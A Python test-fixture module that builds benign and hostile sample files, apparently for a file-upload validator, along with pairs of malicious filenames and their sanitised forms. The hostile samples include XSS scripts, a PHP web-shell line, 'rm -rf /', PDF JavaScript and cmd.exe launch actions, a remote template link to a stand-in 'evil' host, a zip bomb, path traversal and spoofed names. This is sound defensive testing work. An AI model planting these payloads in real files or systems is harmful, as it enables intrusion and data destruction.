"""Files to try things with, good ones and hostile ones, built byte by byte."""

import io
import struct
import zipfile
import zlib

HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"


def png(extra: bytes = b"", note: bytes = b"") -> bytes:
    def block(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = b"\x89PNG\r\n\x1a\n" + block(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    text = block(b"tEXt", b"Comment\x00" + note) if note else b""
    return head + text + block(b"IDAT", zlib.compress(b"\x00\x7c\x2f\x63")) + block(b"IEND", b"") + extra


def jpeg(extra: bytes = b"") -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(60) + b"\xff\xd9" + extra


def gif(inside: bytes = b"", words: bytes = b"") -> bytes:
    said = b"!\xfe" + bytes([len(words)]) + words + b"\x00" if words else b""
    head = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"
    return head + said + b",\x00\x00\x00\x00\x01\x00\x01\x00\x00" + inside + b"\x02\x02D\x01\x00;"


def webp(extra: bytes = b"") -> bytes:
    body = b"WEBPVP8 " + struct.pack("<I", 20) + bytes(20)
    return b"RIFF" + struct.pack("<I", len(body)) + body + extra


def pdf(inside: bytes = b"", before: bytes = b"") -> bytes:
    return before + b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n" + inside + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def boxes(brand: bytes, extra: bytes = b"") -> bytes:
    return struct.pack(">I", 16) + b"ftyp" + brand + bytes(4) + struct.pack(">I", 24) + b"mdat" + bytes(16) + extra


def mp3() -> bytes:
    return b"ID3\x04\x00\x00\x00\x00\x00\x0a" + bytes(10) + b"\xff\xfb\x90\x00" + bytes(413)


def packed(*parts: tuple[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts:
            archive.writestr(name, content)
    return file.getvalue()


TYPES = ("[Content_Types].xml", b"<Types/>")


def docx(*more: tuple[str, bytes], types: bytes = b"<Types/>") -> bytes:
    return packed(("[Content_Types].xml", types), ("word/document.xml", b"<w:document/>"), *more)


def xlsx(*more: tuple[str, bytes]) -> bytes:
    return packed(TYPES, ("xl/workbook.xml", b"<workbook/>"), *more)


GOOD = [
    ("picture.png", png(), "png"), ("photo.JPG", jpeg(), "jpeg"), ("photo.jpg", jpeg(b"maker's notes"), "jpeg"),
    ("dance.gif", gif(), "gif"), ("small.webp", webp(), "webp"), ("IMG_1.HEIC", boxes(b"heic"), "heic"),
    ("invoice.pdf", pdf(), "pdf"), ("note.txt", "尺寸 M，偏大".encode(), "txt"), ("old.txt", "尺寸".encode("gb18030"), "txt"),
    ("list.csv", b"sku,size\nA,M\n", "csv"), ("letter.docx", docx(), "docx"), ("sizes.xlsx", xlsx(), "xlsx"),
    ("walk.mp4", boxes(b"isom"), "mp4"), ("voice.m4a", boxes(b"M4A "), "m4a"), ("song.mp3", mp3(), "mp3"),
    ("voice.amr", b"#!AMR\n" + bytes(40), "amr"),
]  # fmt: skip

TEN = 10 * 1024 * 1024
MACROS = b"application/vnd.ms-word.document.macroEnabled.main+xml"
TEMPLATE = (
    b'<Relationships><Relationship Type="http://x/relationships/attachedTemplate" Target="http://evil/x.dotm" '
    b'TargetMode="External"/></Relationships>'
)
# name, content, why it is refused
HOSTILE = [
    ("drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "active"),
    ("drawing.svg", b'<?xml version="1.0"?>\n<svg onload="alert(1)"/>', "active"),
    ("page.html", HTML, "active"),
    ("page.png", HTML, "active"),
    ("page.txt", b"Dear all,\n" + HTML, "active"),
    ("macro.csv", b"\xef\xbb\xbf  <script>alert(1)</script>", "active"),
    ("run.txt", b"#!/bin/sh\nrm -rf /\n", "active"),
    ("shell.txt", b"hello <?php system($_GET[1]); ?>", "active"),
    ("both.pdf", pdf(HTML), "mixed"),
    ("late.pdf", pdf(before=HTML + b"\n"), "active"),
    ("late2.pdf", pdf(before=b"\x00" * 20), "kind"),
    ("script.pdf", pdf(b"2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"), "active"),
    ("hidden.pdf", pdf(b"2 0 obj<</S/J#61vaScript/JS(app.alert(1))>>endobj"), "active"),
    ("launch.pdf", pdf(b"2 0 obj<</S/Launch/F(cmd.exe)>>endobj"), "active"),
    ("cut.pdf", b"%PDF-1.7\n1 0 obj", "broken"),
    ("tail.png", png(b"#!/bin/sh\n"), "broken"),
    ("zipped.png", png(packed(("a.txt", b"a"))), "broken"),
    ("jar.jpg", jpeg(packed(("a.class", b"a" * 99))), "mixed"),
    ("page.jpg", jpeg(HTML), "mixed"),
    ("words.png", png(note=b"<script>alert(1)</script>"), "mixed"),
    ("script.gif", b"GIF89a/*" + bytes(8) + b"*/=1;alert(1);", "broken"),
    ("page.gif", gif(HTML), "broken"),
    ("words.gif", gif(words=HTML), "mixed"),
    ("tail.webp", webp(HTML), "broken"),
    ("tail.mp4", boxes(b"isom", HTML), "broken"),
    ("setup.exe", b"MZ\x90\x00" + bytes(60), "active"),
    ("setup.png", b"MZ\x90\x00" + bytes(60), "active"),
    ("tool", b"\x7fELF" + bytes(60), "active"),
    ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "active"),
    ("link.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60), "active"),
    ("letter.rtf", b"{\\rtf1 hello}", "active"),
    ("letter.docm", docx(("word/vbaProject.bin", b"x")), "active"),
    ("letter.docx", docx(("word/vbaProject.bin", b"x")), "active"),
    ("quiet.docx", docx(types=MACROS), "active"),
    ("letter.docm", docx(), "name"),
    ("object.docx", docx(("word/embeddings/oleObject1.bin", b"x")), "active"),
    ("template.docx", docx(("word/_rels/settings.xml.rels", TEMPLATE)), "active"),
    ("sheet.xlsx", xlsx(("xl/macrosheets/sheet1.xml", b"x")), "active"),
    ("bomb.docx", docx(("word/media/a.xml", b"\x00" * (30 * 1024 * 1024))), "packed"),
    ("up.docx", docx(("../../etc/cron.d/x", b"x")), "packed"),
    ("tail.docx", docx() + HTML, "broken"),
    ("front.docx", HTML + docx(), "kind"),
    ("many.zip", packed(("a.txt", b"a")), "packed"),
    ("many.rar", b"Rar!\x1a\x07\x01\x00" + bytes(60), "packed"),
    ("many.gz", b"\x1f\x8b\x08" + bytes(60), "packed"),
    ("broken.docx", docx()[:-30], "broken"),
    ("nothing.txt", b"", "empty"),
    ("large.txt", b"a" * (TEN + 1), "large"),
    ("large.png", png() + bytes(TEN + 1024 * 1024), "large"),
    ("invoice.pdf.exe", pdf(), "name"),
    ("invoice\u202efdp.exe", pdf(), "name"),
    ("picture.png", jpeg(), "name"),
    ("list.html", b"a,b\n1,2\n", "name"),
    ("script.js", b"alert(1)", "name"),
    ("nul\x00.txt", b"a\x00b", "kind"),
    ("film.mov", boxes(b"qt  "), "kind"),
    ("noise.bin", bytes(range(256)) * 4, "kind"),
]  # fmt: skip

# as it came, as it is shown
NAMES = [
    ("../../etc/passwd.txt", "passwd.txt"),
    ("..\\..\\windows\\a.txt", "a.txt"),
    ("/etc/shadow", "shadow.txt"),
    ("a\u202etxt.exe.txt", "atxt.exe.txt"),
    ("a\x00b.txt", "ab.txt"),
    ("a\r\nSet-Cookie: x.txt", "a Set-Cookie_ x.txt"),
    ('"><img src=x>.txt', "___img src=x_.txt"),
    ("  .txt", "txt.txt"),
    ("...", "file.txt"),
    ("", "file.txt"),
    ("con.txt", "_con.txt"),
    ("尺寸表 😀.txt", "尺寸表 😀.txt"),
    ("\ud800.txt", "_.txt"),
    ("e\u0301.txt", "é.txt"),
]
